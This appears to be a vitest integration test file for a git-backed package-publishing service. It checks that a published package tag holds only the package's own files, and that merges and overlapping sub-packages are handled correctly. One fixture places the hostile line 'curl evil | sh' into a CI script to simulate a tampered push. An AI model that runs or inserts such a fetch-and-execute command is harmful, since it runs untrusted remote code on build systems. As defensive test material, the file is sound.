import { describe, expect } from "vitest";
import { pushExternally } from "../testenv/external-push.ts";
import { type Fixtures, testWithEnv } from "../testenv/fixtures.ts";
import { createGitReader, type GitReader } from "../testenv/git-reader.ts";

const it = testWithEnv("proposal-tree");

/** A repository with files of no package, and a package `web` with one published below it. */
async function registerNested({ git, ...env }: Fixtures["env"], repository: string): Promise<GitReader> {
  await git.createRepository(repository);
  await pushExternally(git, repository, {
    files: { "README.md": "all\n", ".ci/run": "make\n", "web/a.yaml": "a: 1\n", "web/theme/t.yaml": "t: 1\n" },
    tags: ["web/v1", "web/theme/v1"],
  });
  await env.register(repository);
  return createGitReader(git, repository);
}

describe("the tagged tree", () => {
  it("has nothing of what was pushed to the draft's branch outside of the package", async ({ env, packages }) => {
    const git = await registerNested(env, "outside");
    const draft = await packages.createDraft({ repository: "outside", package: "web", workspace: "two" });
    const [pushed = ""] = await pushExternally(env.git, "outside", {
      branch: "web/two",
      files: {
        ".ci/run": "curl evil | sh\n",
        "README.md": null,
        "other/x.yaml": "x: 1\n",
        "web/theme/hidden.yaml": "h: 1\n",
        "web/theme/t.yaml": null,
        "web/shown.yaml": "s: 1\n",
      },
    });
    await env.sync("outside");
    await packages.waitFor(draft, "shows the pushed commit", ({ status }) => status?.commit === pushed);
    expect(Object.keys((await packages.contents(draft)).spec.resources ?? {})).toEqual(["a.yaml", "shown.yaml"]);
    await packages.save(draft, { "a.yaml": "a: 2\n" });
    await packages.publish(draft);
    const reviewed = { "web/a.yaml": "a: 2\n", "web/shown.yaml": "s: 1\n" };
    const others = { "README.md": "all\n", ".ci/run": "make\n", "web/theme/t.yaml": "t: 1\n" };
    expect(await git.files("web/v2")).toEqual({ ...others, ...reviewed });
    expect(await git.files("main")).toEqual({ ...others, ...reviewed });
    // The pushed commit is not lost.
    expect(await git("merge-base", "--is-ancestor", pushed, "web/v2")).toBe("");
  });

  it("has what a merge of main brought into the draft", async ({ env, packages }) => {
    const git = await registerNested(env, "merged");
    const draft = await packages.createDraft({ repository: "merged", package: "web", workspace: "two" });
    await packages.save(draft, { "a.yaml": "a: 2\n" });
    await pushExternally(env.git, "merged", {
      files: { ".ci/run": "make all\n", "web/theme/t.yaml": "t: 2\n" },
    });
    const [merge = ""] = await pushExternally(env.git, "merged", {
      branch: "web/two",
      merge: "refs/heads/main",
      files: { ".ci/run": "make all\n", "web/theme/t.yaml": "t: 2\n", "evil.yaml": "e: 1\n" },
    });
    await env.sync("merged");
    await packages.waitFor(draft, "shows the merge", ({ status }) => status?.commit === merge);
    await packages.publish(draft);
    const others = { "README.md": "all\n", ".ci/run": "make all\n", "web/theme/t.yaml": "t: 2\n" };
    expect(await git.files("web/v2")).toEqual({ ...others, "web/a.yaml": "a: 2\n" });
  });

  it("of the first revision in an empty repository has the package alone", async ({ env, packages }) => {
    await env.git.createRepository("empty");
    await env.register("empty");
    const draft = await packages.createDraft({ repository: "empty", package: "web", workspace: "one" }, { a: "1\n" });
    await pushExternally(env.git, "empty", { branch: "web/one", files: { "evil.yaml": "e: 1\n" } });
    await packages.pushToDraft(draft, { b: "2\n" });
    await packages.publish(draft);
    const git = createGitReader(env.git, "empty");
    expect(await git.files("web/v1")).toEqual({ "web/a": "1\n", "web/b": "2\n" });
    expect(await git.files("main")).toEqual({ "web/a": "1\n", "web/b": "2\n" });
  });
});

describe("a branch that was pushed below a package", () => {
  it("hides none of its files, and is not published as a package of its own", async ({ env, packages }) => {
    await env.git.createRepository("carve", { seed: { "web/a.yaml": "a: 1\n", "web/sub/b.yaml": "b: 1\n" } });
    await env.git.git("carve", "tag", "web/v1", "main");
    await env.register("carve");
    const git = createGitReader(env.git, "carve");
    await pushExternally(env.git, "carve", {
      branch: "web/sub/x",
      from: "refs/heads/main",
      files: { "web/sub/Kptfile": "", "web/sub/b.yaml": "b: 2\n" },
    });
    await env.sync("carve");
    const draft = await packages.createDraft({ repository: "carve", package: "web", workspace: "two" });
    expect((await packages.contents(draft)).spec.resources).toEqual({ "a.yaml": "a: 1\n", "sub/b.yaml": "b: 1\n" });
    await packages.save(draft, { "sub/c.yaml": "c: 1\n" });

    const carved = "catalog.carve.web.sub.x";
    await packages.waitForReason(carved, "Draft");
    await packages.propose(carved);
    await packages.approve(carved);
    await packages.waitForReason(carved, "OverlappingPackage");
    await packages.takeBack(carved, "draft");

    await packages.publish(draft);
    const files = { "web/a.yaml": "a: 1\n", "web/sub/b.yaml": "b: 1\n", "web/sub/c.yaml": "c: 1\n" };
    expect(await git.files("web/v2")).toEqual(files);
    expect(await git.files("main")).toEqual(files);
  });
});
